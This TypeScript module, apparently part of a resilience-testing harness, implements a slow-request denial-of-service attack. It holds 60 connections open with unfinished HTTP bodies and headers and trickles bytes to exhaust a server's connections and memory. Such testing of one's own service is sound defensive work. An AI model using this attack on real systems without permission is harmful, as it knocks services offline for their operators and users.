// Slow requests: bodies and headers that arrive byte by byte. Whoever waits for their end for ever has its
// connections, and the memory of each, taken up one after the other.

import { setTimeout as sleep } from "node:timers/promises";
import { openRaw } from "../ask.js";
import type { Attack } from "../attack.js";

const atOnce = 60;
const forMs = 75_000;
const pauseMs = 1_000;
const body =
  "POST /v1/accounts HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{";
const header = "GET /v1/cohorts HTTP/1.1\r\nHost: x\r\nX: ";

export const slowBodies: Attack = {
  name: "slow-bodies",
  hasAccount: false,
  everyMs: 80_000,
  begin: (target) => async () => {
    const sockets = Array.from({ length: atOnce }, () => openRaw(target));
    for (const [i, socket] of sockets.entries()) socket.write(i % 2 === 0 ? body : header);
    for (let ms = 0; ms < forMs && !target.signal.aborted; ms += pauseMs) {
      await sleep(pauseMs, undefined, { signal: target.signal }).catch(() => {});
      for (const socket of sockets) socket.write(" ");
    }
    for (const socket of sockets) socket.end();
  },
};
